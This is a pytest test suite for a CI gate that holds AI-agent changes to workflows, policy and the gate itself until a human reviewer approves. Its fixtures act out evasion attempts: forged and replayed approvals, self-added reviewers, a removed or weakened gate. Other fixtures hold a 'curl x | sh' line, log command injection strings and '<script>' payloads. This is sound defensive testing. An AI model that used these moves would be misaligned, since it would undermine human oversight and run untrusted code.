"""`twokey pr` in a job: real event payloads, real clones, hostile branches, and what each surface shows."""

from __future__ import annotations

import os
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from kit.clones import checkout, clone
from kit.events import EVIL, ZEROS, branch_pipeline, github, merge_group, merge_request, pull_request, push
from kit.history import ANN, BOB, CLAUDE, CLAUDE_TRAILER, WEB_FLOW, History, Repo

from scanner.approvals.digest import review_digest
from scanner.repo.diff import tree_changes
from scanner.repo.open import open_repository

Command = Callable[..., Any]
POLICY = ".twokey.yaml"
WORKFLOW = ".github/workflows/release.yml"
GATE = ".github/workflows/twokey.yml"
JOBS = "jobs: {build: {runs-on: ubuntu-latest, steps: [{run: make}]}}\n"
READ, WRITE = (f"on: push\npermissions: {level}-all\n{JOBS}" for level in ("read", "write"))
RUNS = "on: pull_request\npermissions: {}\njobs: {twokey: {runs-on: ubuntu-latest, steps: [{run: twokey pr}]}}\n"
ROSTER = "version: 1\nreviewers: [{id: bob, name: Bob Ray, emails: [bob@example.org]}]\n"
EVE = "Eve Hill <eve@example.org>"


class Request:
    """A pull request in the making: what `main` holds, and a branch `topic` that an agent works on."""

    def __init__(self, **files: str) -> None:
        self.history = History()
        base = {"README.md": "x\n", WORKFLOW: READ, GATE: RUNS, POLICY: ROSTER, **files}
        self.start = self.history.commit("Start", files=base)
        self.history.last["topic"] = self.start

    def commit(self, message: str = "Work", author: str = ANN, branch: str = "topic", **files: Any) -> int:
        return self.history.commit(message, author=author, branch=branch, **files)

    def write(self, path: Path) -> Repo:
        return self.history.write(path)


def widened(message: str = f"Widen the token\n\n{CLAUDE_TRAILER}\n") -> Request:
    request = Request()
    request.commit(message, files={WORKFLOW: WRITE})
    return request


def ends(repo: Repo) -> tuple[str, str]:
    return repo.git("rev-parse", "topic"), repo.git("rev-parse", "main")


def digest(repo: Repo, base: str, head: str) -> str:
    """What a reviewer of the whole branch would put their name under."""
    git = open_repository(str(repo.path), os.environ).git
    gated = (WORKFLOW, GATE, POLICY, "Makefile")
    return review_digest(each for each in tree_changes(git, base, head) if each.path in gated)


def approve(repo: Repo, base: str, who: str = BOB, extra: str = "") -> None:
    """An empty commit on topic that approves it as it is."""
    head = repo.git("rev-parse", "topic")
    name, _, email = who.rstrip(">").partition(" <")
    message = f"Approve\n\nReviewed-by: {who}\nReviewed-digest: {digest(repo, base, head)}{extra}\n"
    people = {
        f"GIT_{role}_{field}": value
        for role in ("AUTHOR", "COMMITTER")
        for field, value in (("NAME", name), ("EMAIL", email))
    }
    made = repo.git("commit-tree", f"{head}^{{tree}}", "-p", head, "-F", "-", stdin=message.encode(), **people)
    repo.git("update-ref", "refs/heads/topic", made)


@pytest.fixture
def pr(twokey: Command, tmp_path: Path) -> Command:
    """`twokey pr` as JSON in a repository that has both branches, asked by GitHub's event."""

    def run(repo: Repo, *words: str, code: int, **variables: str) -> Any:
        given = github(tmp_path / "event", "pull_request", pull_request(*ends(repo)))
        return twokey(repo, "pr", "--no-secrets", "--format", "json", *words, code=code, **given, **variables).json

    return run


def blocked(report: Any) -> dict[str, str]:
    """Outcome and check of what blocks, by path; of several the worst."""
    found = [each for each in report["findings"] if each["outcome"] in ("held", "failed")]
    worst_last = sorted(found, key=lambda each: str(each["outcome"]) == "failed")
    return {each["path"]: f"{each['outcome']} {each['check']}" for each in worst_last}


class TestHostileBranches:
    def test_an_agents_workflow_is_held_and_the_benign_twin_passes(self, tmp_path: Path, pr: Command) -> None:
        repo = widened().write(tmp_path / "r")
        report = pr(repo, code=1)
        assert blocked(report) == {WORKFLOW: "held agent-touched-ci"}
        assert report["selection"]["kind"] == "pull-request"
        twin = Request()
        twin.commit(f"Explain\n\n{CLAUDE_TRAILER}\n", files={"README.md": "y\n"})
        assert pr(twin.write(tmp_path / "twin"), code=0)["outcome"] == "pass"

    def test_a_reviewer_of_the_roster_lets_it_pass(self, tmp_path: Path, pr: Command) -> None:
        repo = widened().write(tmp_path / "r")
        approve(repo, "main")
        report = pr(repo, code=0)
        assert report["summary"]["approved"] == 1

    def test_a_head_that_makes_itself_a_policy(self, tmp_path: Path, pr: Command) -> None:
        """Whatever the head's policy says, the base's judges, and touching it as an agent fails."""
        request = widened()
        request.commit("Relax", author=CLAUDE, files={POLICY: "version: 1\nextends: advisory\n"})
        report = pr(request.write(tmp_path / "r"), code=1)
        assert report["outcome"] == "fail"
        assert blocked(report)[WORKFLOW] == "held agent-touched-ci"

    def test_a_head_whose_policy_cannot_be_read(self, tmp_path: Path, twokey: Command) -> None:
        request = widened()
        request.commit("Break", files={POLICY: "version: [\n"})
        repo = request.write(tmp_path / "r")
        given = github(tmp_path / "event", "pull_request", pull_request(*ends(repo)))
        assert "policy at the head is unreadable" in twokey(repo, "pr", "--no-secrets", code=3, **given).err

    def test_a_head_that_puts_itself_on_the_roster(self, tmp_path: Path, pr: Command) -> None:
        request = widened()
        request.commit(
            "Join", files={POLICY: ROSTER.replace("}]", "}, {id: eve, name: Eve Hill, emails: [eve@example.org]}]")}
        )
        repo = request.write(tmp_path / "r")
        approve(repo, "main", EVE)
        assert blocked(pr(repo, code=1))[WORKFLOW] == "held agent-touched-ci"

    def test_a_head_that_leaves_where_the_policy_was_weak(self, tmp_path: Path, pr: Command) -> None:
        """The branch begins before the owners asked for anything; its base, as it is now, asks."""
        request = Request(**{POLICY: "version: 1\nextends: advisory\n"})
        request.commit(f"Widen\n\n{CLAUDE_TRAILER}\n", files={WORKFLOW: WRITE})
        request.commit("Tighten", branch="main", files={POLICY: ROSTER})
        assert blocked(pr(request.write(tmp_path / "r"), code=1)) == {WORKFLOW: "held agent-touched-ci"}

    def test_a_head_that_takes_the_gate_away(self, tmp_path: Path, pr: Command) -> None:
        gone = Request()
        gone.commit("Tidy", author=CLAUDE, files={GATE: None})
        assert pr(gone.write(tmp_path / "gone"), code=1)["outcome"] == "fail"
        loose = Request()
        loose.commit("Report only", author=CLAUDE, files={GATE: RUNS.replace("twokey pr", "twokey pr --exit-zero")})
        assert blocked(pr(loose.write(tmp_path / "loose"), code=1))[GATE].startswith("failed")
        named = Request()
        named.commit("Help it", author=CLAUDE, files={GATE: RUNS.replace("twokey pr", "twokey pr --base HEAD")})
        assert blocked(pr(named.write(tmp_path / "named"), code=1))[GATE].startswith("failed")

    @pytest.mark.parametrize(
        ("who", "author"),
        [
            ("Claude <noreply@anthropic.com>", CLAUDE),
            (ANN, ANN),
            ("Bob Ray <bob@example.com>", EVE),
            (BOB, CLAUDE),
        ],
        ids=["the-agent-itself", "a-contributor", "a-name-like-his", "an-agent-in-his-name"],
    )
    def test_a_forged_approval(self, tmp_path: Path, pr: Command, who: str, author: str) -> None:
        repo = widened().write(tmp_path / "r")
        head, base = ends(repo)
        message = f"Approve\n\nReviewed-by: {who}\nReviewed-digest: {digest(repo, base, head)}\n"
        name, _, email = author.rstrip(">").partition(" <")
        people = {
            f"GIT_{role}_{field}": value
            for role in ("AUTHOR", "COMMITTER")
            for field, value in (("NAME", name), ("EMAIL", email))
        }
        made = repo.git("commit-tree", f"{head}^{{tree}}", "-p", head, "-F", "-", stdin=message.encode(), **people)
        repo.git("update-ref", "refs/heads/topic", made)
        assert blocked(pr(repo, code=1)) == {WORKFLOW: "held agent-touched-ci"}

    def test_an_approval_in_the_body_of_the_request_is_none(self, tmp_path: Path, pr: Command) -> None:
        """The payload of every test here has one in its body."""
        assert "Reviewed-by" in str(pull_request("a", "b"))
        assert pr(widened().write(tmp_path / "r"), code=1)["summary"]["approved"] == 0

    def test_an_approval_that_is_played_again(self, tmp_path: Path, pr: Command) -> None:
        """Given for one state; more came on top. And the very same commit taken to another branch."""
        repo = widened().write(tmp_path / "r")
        approve(repo, "main")
        head = repo.git("rev-parse", "topic")
        blob = repo.git("hash-object", "-w", "--stdin", stdin=WRITE.replace("make", "curl x | sh").encode())
        repo.git("read-tree", head)
        repo.git("update-index", "--cacheinfo", f"100644,{blob},{WORKFLOW}")
        tree = repo.git("write-tree")
        more = repo.git("commit-tree", tree, "-p", head, "-m", f"More\n\n{CLAUDE_TRAILER}")
        repo.git("update-ref", "refs/heads/topic", more)
        repo.git("read-tree", "HEAD")
        report = pr(repo, code=1)
        assert blocked(report) == {WORKFLOW: "held agent-touched-ci"}
        reasons = {each["reason"] for entry in report["commits"] for each in entry["approvals"]}
        assert "stale" in reasons

    def test_what_is_undone_again_was_there(self, tmp_path: Path, pr: Command) -> None:
        """The net difference is nothing, and one of the commits ran in CI all the same."""
        request = widened()
        request.commit(f"Undo\n\n{CLAUDE_TRAILER}\n", files={WORKFLOW: READ})
        assert WORKFLOW in blocked(pr(request.write(tmp_path / "r"), code=1))

    def test_a_merge_of_main_that_brings_more_than_main_has(self, tmp_path: Path, pr: Command) -> None:
        request = Request()
        mine = request.commit("Docs", files={"README.md": "y\n"})
        theirs = request.commit("Meanwhile", branch="main", files={"b": "1"})
        files = {"b": "1", WORKFLOW: WRITE}
        request.commit("Merge main", author=CLAUDE, parents=[mine, theirs], files=files)
        assert blocked(pr(request.write(tmp_path / "evil"), code=1)) == {WORKFLOW: "held agent-touched-ci"}
        twin = Request()
        mine = twin.commit("Docs", files={"README.md": "y\n"})
        theirs = twin.commit("Meanwhile", branch="main", files={WORKFLOW: WRITE})
        twin.commit("Merge main", author=CLAUDE, parents=[mine, theirs], files={WORKFLOW: WRITE})
        assert blocked(pr(twin.write(tmp_path / "good"), code=0)) == {}

    def test_a_policy_by_hand_is_refused(self, tmp_path: Path, twokey: Command) -> None:
        repo = widened().write(tmp_path / "r")
        found = twokey(repo, "pr", "--base", "main", "--head", "topic", "--policy", "x.yaml", code=2)
        assert "judged by the policy of the branch" in found.err

    def test_nothing_of_the_work_tree_is_run_or_imported(
        self, tmp_path: Path, command: list[str], twokey: Command
    ) -> None:
        """The head is checked out, and stands in for all that a Python program could import."""
        ran = tmp_path / "ran"
        code = f"open({str(ran)!r}, 'w')\nraise SystemExit(0)\n"
        request = widened()
        names = ("scanner/__init__.py", "scanner/__main__.py", "pip.py", "json.py", "yaml.py", "git.py", "rich.py")
        files = {
            **dict.fromkeys(names, code),
            "sitecustomize.py": code,
            ".gitattributes": "* diff=x filter=x merge=x\n",
        }
        request.commit("Stand in", files=files)
        repo = request.write(tmp_path / "r")
        for key in ("diff.x.textconv", "filter.x.clean", "filter.x.smudge", "merge.x.driver", "core.fsmonitor"):
            repo.git("config", key, f"touch {ran}")
        repo.git("config", "core.bare", "false")
        given = github(tmp_path / "event", "pull_request", pull_request(*ends(repo)))
        repo.git("-c", "core.fsmonitor=false", "-c", "filter.x.smudge=", "checkout", "-q", "-f", "topic")
        ran.unlink(missing_ok=True)
        found = twokey(repo, "pr", "--no-secrets", code=1, process=True, **given)
        assert "HOLD" in found.out
        assert not ran.exists()


class TestEvents:
    def test_a_merge_queue(self, tmp_path: Path, twokey: Command) -> None:
        """Squashed by the forge on top of the base: judged as it lands."""
        request = Request()
        request.commit(f"Widen (#7)\n\n{CLAUDE_TRAILER}\n", files={WORKFLOW: WRITE}, author=ANN, committer=WEB_FLOW)
        repo = request.write(tmp_path / "r")
        given = github(tmp_path / "event", "merge_group", merge_group(*ends(repo)))
        found = twokey(repo, "pr", "--no-secrets", "--format", "json", code=1, **given)
        assert blocked(found.json) == {WORKFLOW: "held agent-touched-ci"}

    def test_pushes(self, tmp_path: Path, twokey: Command) -> None:
        request = widened()
        request.commit("Docs", branch="main", files={"README.md": "y\n"})
        repo = request.write(tmp_path / "origin")
        here = clone(repo, tmp_path / "c")
        topic, main = ends(repo)
        first = repo.oids[0]

        def outcome(*words: str, code: int, **more: str) -> list[Any]:
            given = github(tmp_path / "event", "push", push(*words), **more)
            report = twokey(here, "pr", "--no-secrets", "--format", "json", code=code, **given).json
            return [report["outcome"], report["summary"]["commits"]]

        assert outcome(first, main, code=0) == ["pass", 1]
        assert outcome(ZEROS, main, code=0) == ["pass", 2]
        assert outcome(ZEROS, topic, "refs/heads/topic", code=1) == ["hold", 1]
        assert outcome(topic, topic, "refs/heads/topic", code=1) == ["hold", 1]  # what was pushed before counts too
        assert outcome(topic, ZEROS, "refs/heads/topic", code=0) == ["pass", 0]
        assert outcome(main, topic, code=1) == ["hold", 1]  # forced: what is there now and was not
        assert outcome(ZEROS, main, "refs/tags/v1", code=0, GITHUB_SHA=main) == ["pass", 0]
        assert outcome(ZEROS, topic, "refs/tags/v2", code=1, GITHUB_SHA=topic) == ["hold", 1]

    def test_a_branch_cannot_judge_itself_in_two_pushes(self, tmp_path: Path, twokey: Command) -> None:
        request = Request()
        weak = request.commit("Relax", files={POLICY: "version: 1\nextends: advisory\n"})
        request.commit("Widen", author=CLAUDE, files={WORKFLOW: WRITE})
        repo = request.write(tmp_path / "origin")
        here = clone(repo, tmp_path / "c")
        given = github(tmp_path / "event", "push", push(repo.oids[weak - 1], ends(repo)[0], "refs/heads/topic"))
        found = twokey(here, "pr", "--no-secrets", "--format", "json", code=1, **given)
        assert blocked(found.json)[WORKFLOW] == "held agent-touched-ci"

    def test_gitlab(self, tmp_path: Path, twokey: Command) -> None:
        request = widened()
        request.commit("Meanwhile", branch="main", files={"b": "1"})
        merged = request.history.commit(
            "Merge", branch="try", parents=[request.history.last[each] for each in ("main", "topic")]
        )
        repo = request.write(tmp_path / "origin")
        topic, main = ends(repo)
        sides = {"CI_MERGE_REQUEST_SOURCE_BRANCH_SHA": topic, "CI_MERGE_REQUEST_TARGET_BRANCH_SHA": main}
        whole = clone(repo, tmp_path / "c")
        for given in (
            merge_request(topic),
            merge_request(repo.oids[merged - 1], CI_MERGE_REQUEST_EVENT_TYPE="merge_train", **sides),
            branch_pipeline(topic, ZEROS, "topic"),
        ):
            found = twokey(whole, "pr", "--no-secrets", code=1, **given)
            assert "::" not in found.out
            assert "permission-widened" in found.out
        assert twokey(whole, "pr", "--no-secrets", code=0, **branch_pipeline(main, repo.oids[0], "main")).out

    def test_by_name(self, tmp_path: Path, twokey: Command) -> None:
        repo = widened().write(tmp_path / "r")
        repo.git("checkout", "-q", "topic")
        for words in (("--base", "main"), ("--base", "main", "--head", "topic"), ("--base", *ends(repo)[::-1][:1])):
            assert "HOLD" in twokey(repo, "pr", "--no-secrets", *words, code=1).out
        for words, said in (
            ((), "nothing says what to judge"),
            (("--head", "topic"), "--head goes with --base"),
            (("--base", "none"), "names no commit"),
            (("--base", "--all"), "expected one argument"),
            (("--base=--all",), "names no commit"),
        ):
            assert said in twokey(repo, "pr", *words, code=2).err

    @pytest.mark.parametrize(
        ("name", "payload", "code"),
        [("schedule", {}, 2), ("", {}, 2), ("pull_request", b"{", 3), ("pull_request", {}, 3), ("push", b"\xff", 3)],
        ids=["schedule", "no-event", "broken", "empty", "bytes"],
    )
    def test_what_cannot_be_taken_never_passes(
        self, tmp_path: Path, twokey: Command, name: str, payload: object, code: int
    ) -> None:
        repo = widened().write(tmp_path / "r")
        given = github(tmp_path / "event", name, payload, GITHUB_ACTIONS="true")
        assert "hint:" in twokey(repo, "pr", code=code, **given).err


class TestShallowClones:
    def test_the_rest_is_fetched(self, tmp_path: Path, command: list[str]) -> None:
        """Not by the fixture: a clone that is completed is written to."""
        from scanner.cli.main import main as twokey_main

        request = widened()
        request.commit("Meanwhile", branch="main", files={"b": "1"})
        repo = request.write(tmp_path / "origin")
        here = checkout(repo, tmp_path / "c", "refs/heads/topic", 1)
        given = github(tmp_path / "event", "pull_request", pull_request(*ends(repo)))
        with pytest.MonkeyPatch.context() as patch:
            patch.chdir(here.path)
            for name, value in given.items():
                patch.setenv(name, value)
            assert twokey_main(["pr", "--no-secrets", "--quiet"]) == 1
            assert twokey_main(["pr", "--no-secrets", "--no-fetch", "--quiet"]) == 1  # all of it is here now
        assert here.git("status", "--short") == ""

    def test_or_the_lines_to_paste_are_said(self, tmp_path: Path, twokey: Command) -> None:
        repo = widened().write(tmp_path / "origin")
        here = checkout(repo, tmp_path / "c", "refs/heads/topic", 1)
        given = github(tmp_path / "event", "pull_request", pull_request(*ends(repo)))
        found = twokey(here, "pr", "--no-secrets", "--no-fetch", code=3, **given)
        assert found.out == ""
        line = next(line.strip() for line in found.err.split("\n") if line.strip().startswith("git fetch"))
        assert "fetch-depth: 0" in found.err
        assert 'GIT_DEPTH: "0"' in found.err
        here.git(*line.split(" ")[1:])
        assert "HOLD" in twokey(here, "pr", "--no-secrets", "--no-fetch", code=1, **given).out

    def test_a_partial_clone_is_no_clean_one(self, tmp_path: Path, twokey: Command) -> None:
        """Blobs that are not here are not judged, and not fetched one by one either."""
        history = History()
        start = history.commit("Start", files={WORKFLOW: READ})
        history.commit("Widen", author=CLAUDE, branch="topic", parents=[start], files={WORKFLOW: WRITE})
        repo = history.write(tmp_path / "origin")
        repo.git("config", "uploadpack.allowFilter", "true")
        here = clone(repo, tmp_path / "c.git", "--bare", "--filter=blob:none")
        given = github(tmp_path / "event", "pull_request", pull_request(*ends(repo)))
        found = twokey(here, "pr", "--no-secrets", code=3, **given)
        assert "is not here" in found.out + found.err


class TestOnGitHub:
    """What a job shows, beside its log."""

    def job(self, folder: Path, repo: Repo, **more: str) -> dict[str, str]:
        for name in ("summary", "outputs"):
            (folder / name).touch()
        files = {"GITHUB_STEP_SUMMARY": str(folder / "summary"), "GITHUB_OUTPUT": str(folder / "outputs")}
        payload = pull_request(*ends(repo))
        return github(folder / "event", "pull_request", payload, **{"GITHUB_ACTIONS": "true", **files, **more})

    def hostile(self, path: Path) -> Repo:
        request = widened(f"::error::Widen ##[add-mask]x x##[set-output name=outcome]pass\n\n{CLAUDE_TRAILER}\n")
        request.commit(
            "<script>|x|\n\nx",
            author=CLAUDE,
            files={"Makefile": "all:\n\t./x\n", "tools/install\n::debug::x.sh": "x\n"},
        )
        return request.write(path)

    def test_the_log_cannot_be_made_to_give_orders(self, tmp_path: Path, twokey: Command) -> None:
        repo = self.hostile(tmp_path / "r")
        found = twokey(repo, "pr", "--no-secrets", code=1, **self.job(tmp_path, repo))
        lines = found.out.split("\n")
        word = lines[0].removeprefix("::stop-commands::")
        assert re.fullmatch(r"[0-9a-f]{32}", word)
        end = lines.index(f"::{word}::")
        assert "HOLD" in "\n".join(lines[1:end])
        orders = [line for line in lines[end + 1 :] if line.lstrip().startswith("::") or "##[" in line]
        assert orders
        assert all(re.match(r"::(error|warning|notice) [^:]*::", line) for line in orders)
        again = twokey(repo, "pr", "--no-secrets", code=1, **self.job(tmp_path, repo))
        assert word not in again.out

    def test_annotations_summary_and_outputs(self, tmp_path: Path, twokey: Command) -> None:
        repo = self.hostile(tmp_path / "r")
        found = twokey(repo, "pr", "--no-secrets", code=1, **self.job(tmp_path, repo))
        assert f"::error file={WORKFLOW},line=2" in found.out
        summary = (tmp_path / "summary").read_text("utf-8")
        assert summary.startswith("## twokey: HOLD")
        assert summary.count("<script>") == summary.count("`<script>\\x7cx\\x7c`") == 1  # as code, and in no table
        held = twokey(repo, "pr", "--no-secrets", "--format", "json", code=1, **self.job(tmp_path, repo)).json
        first = (tmp_path / "outputs").read_text("utf-8").split("\n")[:2]
        assert first == ["outcome=hold", f"blocked={held['summary']['held']}"]

    def test_a_clean_request(self, tmp_path: Path, twokey: Command) -> None:
        request = Request()
        request.commit("Docs", files={"README.md": "y\n"})
        repo = request.write(tmp_path / "r")
        found = twokey(repo, "pr", code=0, **self.job(tmp_path, repo))
        assert "::error" not in found.out
        assert (tmp_path / "outputs").read_text("utf-8") == "outcome=pass\nblocked=0\n"

    @pytest.mark.parametrize("format_", ["json", "sarif", "markdown", "github"])
    def test_a_format_for_machines_is_all_there_is(self, tmp_path: Path, twokey: Command, format_: str) -> None:
        repo = widened().write(tmp_path / "r")
        found = twokey(repo, "pr", "--no-secrets", "--format", format_, code=1, **self.job(tmp_path, repo))
        alone = twokey(repo, "pr", "--no-secrets", "--format", format_, "--base", "main", "--head", "topic", code=1)
        assert "stop-commands" not in found.out
        assert found.out == alone.out

    @pytest.mark.parametrize("way", ["link", "folder", "gone", "fifo", "read-only-folder"])
    def test_a_file_that_cannot_be_written_changes_no_verdict(self, tmp_path: Path, twokey: Command, way: str) -> None:
        repo = widened().write(tmp_path / "r")
        place, victim = tmp_path / "place", tmp_path / "victim"
        victim.write_text("precious")
        if way == "link":
            place.symlink_to(victim)
        elif way == "folder":
            place.mkdir()
        elif way == "fifo":
            os.mkfifo(place)
        elif way == "gone":
            place = tmp_path / "no" / "place"
        else:
            place = Path("/proc/place")
        job = self.job(tmp_path, repo, GITHUB_STEP_SUMMARY=str(place), GITHUB_OUTPUT=str(place))
        found = twokey(repo, "pr", "--no-secrets", code=1, **job)
        assert "cannot write the step's summary" in found.err
        assert "cannot write the step's outputs" in found.err
        assert victim.read_text() == "precious"

    def test_a_summary_stays_below_what_github_shows(self, tmp_path: Path, twokey: Command) -> None:
        repo = widened().write(tmp_path / "r")
        job = self.job(tmp_path, repo)
        (tmp_path / "summary").write_text("x" * 1_020_000)
        twokey(repo, "pr", "--no-secrets", code=1, **job)
        assert 1_020_000 < (tmp_path / "summary").stat().st_size < 1024 * 1024

    def test_and_where_none_is_left_it_is_said(self, tmp_path: Path, twokey: Command) -> None:
        repo = widened().write(tmp_path / "r")
        job = self.job(tmp_path, repo)
        (tmp_path / "summary").write_text("x" * 1_048_000)
        assert "filled it already" in twokey(repo, "pr", "--no-secrets", code=1, **job).err
        assert (tmp_path / "summary").stat().st_size == 1_048_000

    def test_an_error_is_shown_where_people_look(self, tmp_path: Path, twokey: Command) -> None:
        repo = widened().write(tmp_path / "r")
        job = self.job(tmp_path, repo) | github(tmp_path / "event", "pull_request", {"pull_request": EVIL})
        found = twokey(repo, "pr", code=3, **job)
        assert found.out.startswith("::error title=twokey%3A undetermined::")
        assert "undetermined" in (tmp_path / "summary").read_text("utf-8")
        assert (tmp_path / "outputs").read_text("utf-8") == "outcome=undetermined\nblocked=0\n"

    def test_a_job_that_is_cancelled_has_no_verdict(
        self, tmp_path: Path, twokey: Command, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        def stopped(*_: object) -> None:
            raise KeyboardInterrupt

        repo = widened().write(tmp_path / "r")
        monkeypatch.setattr("scanner.cli.pr.judge", stopped)
        assert "interrupted" in twokey(repo, "pr", "--no-secrets", code=3, **self.job(tmp_path, repo)).err
        assert (tmp_path / "outputs").read_text("utf-8") == "outcome=undetermined\nblocked=0\n"

    def test_elsewhere_nothing_of_it_is_written(self, tmp_path: Path, twokey: Command) -> None:
        repo = widened().write(tmp_path / "r")
        job = self.job(tmp_path, repo, GITHUB_ACTIONS="")
        found = twokey(repo, "pr", "--no-secrets", code=1, **job)
        assert "::" not in found.out.replace("twokey1:", "")
        assert (tmp_path / "outputs").read_text("utf-8") == (tmp_path / "summary").read_text("utf-8") == ""


class TestExitCodes:
    @pytest.mark.parametrize("format_", ["terminal", "json", "sarif", "markdown", "github"])
    def test_the_format_never_changes_the_code(self, tmp_path: Path, twokey: Command, format_: str) -> None:
        repo = widened().write(tmp_path / "r")
        words = ("pr", "--no-secrets", "--base", "main", "--head", "topic", "--format", format_)
        twokey(repo, *words, code=1)
        twokey(repo, *words, "--exit-zero", code=0)
        twokey(repo, *words, "--fail-on", "critical", code=1)
        twokey(repo, "pr", "--no-secrets", "--base", "topic", "--head", "main", "--format", format_, code=0)

    def test_undetermined_is_never_a_pass(self, tmp_path: Path, twokey: Command) -> None:
        request = Request()
        request.commit("Break", files={POLICY: "version: [\n"})
        repo = request.write(tmp_path / "r")
        for more in ((), ("--exit-zero",), ("--fail-on", "critical"), ("--exit-zero", "--fail-on", "critical")):
            twokey(repo, "pr", "--no-secrets", "--base", "main", "--head", "topic", *more, code=3)
